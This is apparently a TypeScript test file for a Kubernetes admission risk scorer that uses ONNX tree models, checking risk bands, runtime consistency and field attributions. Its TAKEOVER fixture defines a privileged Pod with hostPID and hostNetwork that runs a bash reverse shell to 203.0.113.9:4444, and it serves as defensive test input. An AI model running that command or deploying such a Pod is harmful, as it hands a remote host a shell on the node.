import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import t from 'tap'
import { createScorer } from '../../../model/released-scorer.js'
import type { JsonObject } from '../../../src/json.js'
import { evaluate } from '../../../src/risk/ensemble.js'
import { readModels } from '../../../src/risk/models.js'
import { openModels } from '../../../src/risk/trained-model.js'
import { runtimeResults } from '../../helpers/onnx-runtime.js'
import { ROOT } from '../../helpers/repository.js'
import { contextOf, admissionRequest, pod } from '../../helpers/requests.js'

// The models that are released: they load, give here what they gave in training, and tell what everybody can tell.

const files = new Map(
  ['objects.onnx', 'changes.onnx', 'isolation.onnx', 'golden.json'].map(name => [
    `model/${name}`,
    new Uint8Array(readFileSync(join(ROOT, 'policies/bundle/model', name))),
  ]),
)
const web = (container: JsonObject, spec: JsonObject = {}): JsonObject =>
  pod({ spec: { ...spec, containers: [{ name: 'web', image: 'registry.example/web:1.2.3', ...container }] } })
const PLAIN = web({})
const TAKEOVER = web(
  { securityContext: { privileged: true }, command: ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] },
  { hostPID: true, hostNetwork: true },
)
const nothing = { count: () => 0, distinct: () => 0 }

t.test('they tell a way to take over a node from a plain Pod', async t => {
  const scorer = await createScorer()
  const [plain, takeover] = [await scorer.scoreObject(PLAIN), await scorer.scoreObject(TAKEOVER)]
  t.equal(plain.band, 'low')
  t.equal(takeover.band, 'high')
  const [renamed, changed] = [
    await scorer.scoreChange(PLAIN, web({ image: 'registry.example/web:1.2.4' }), nothing),
    await scorer.scoreChange(PLAIN, TAKEOVER, nothing),
  ]
  t.equal(renamed.band, 'low')
  t.equal(changed.band, 'high')
  t.strictSame(await scorer.scoreObject(TAKEOVER), takeover, 'and say the same each time')
})

t.test('ONNX Runtime gives the same for any row, to the last bit', async t => {
  const { object, change, isolation, golden } = readModels(files)
  const model = { object, change, isolation }
  for (const name of ['object', 'change', 'isolation'] as const) {
    const { ensemble } = model[name]
    const [{ row: first } = { row: new Float32Array() }] = golden[name]
    const limits = ensemble.trees.flatMap(({ feature, threshold }) =>
      [...feature.keys()].flatMap(at => {
        const column = feature[at] ?? -1
        return column < 0 ? [] : [{ column, value: threshold[at] ?? 0 }]
      }),
    )
    // Around what the trees ask for, so that rows go everywhere.
    const asked = fc.record({ limit: fc.constantFrom(...limits), step: fc.constantFrom(-1, 0, 1) })
    const rows = fc.sample(fc.array(asked, { minLength: 1, maxLength: 200 }), { numRuns: 300, seed: 7 }).map(all => {
      const row = new Float32Array(first.length)
      for (const { limit, step } of all) row[limit.column] = limit.value + step / 64
      return row
    })
    const wanted = [...golden[name].map(({ row }) => row), ...rows]
    t.strictSame(
      await runtimeResults(model[name], wanted),
      wanted.map(row => evaluate(ensemble, row)),
      name,
    )
  }
})

t.test('what they say adds up, and names the fields', async t => {
  const models = readModels(files)
  const model = openModels(models)
  const request = admissionRequest({ operation: 'UPDATE', object: TAKEOVER, oldObject: PLAIN })
  const { risk } = await model.assess(request, contextOf())
  const paths = (risk?.contributions ?? []).flatMap(each => each.paths)
  t.ok(
    ['/spec/hostPID', '/spec/hostNetwork', '/spec/containers/0'].some(start =>
      paths.some(path => path.startsWith(start)),
    ),
  )
  t.equal(risk?.contributions.length, 5)
  const size = [...files.values()].reduce((sum, each) => sum + each.length, 0)
  t.ok(size < 2_000_000, `${size} bytes`)
})
